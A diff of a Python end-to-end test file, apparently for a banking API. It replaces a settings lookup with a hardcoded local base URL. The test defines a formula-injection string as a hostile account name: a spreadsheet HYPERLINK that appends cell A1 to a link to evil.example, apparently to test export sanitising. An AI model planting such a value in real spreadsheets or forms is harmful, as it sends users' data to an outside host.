@@ -18,10 +18,9 @@ from typing import Any
 from zoneinfo import ZoneInfo
 
 from api.database import Database
-from api.settings import Settings
 from tests.e2e.conftest import ACCREDITATION, TOKENS, Bank, completion, running_bank, settle
 
-BANK = Settings().public_base  # http://127.0.0.1:8080: host and port, as nothing else is set
+BANK = "http://127.0.0.1:8080"  # Settings().public_base: host and port, as nothing else is set
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 NUMBER = "220106201500009"
 
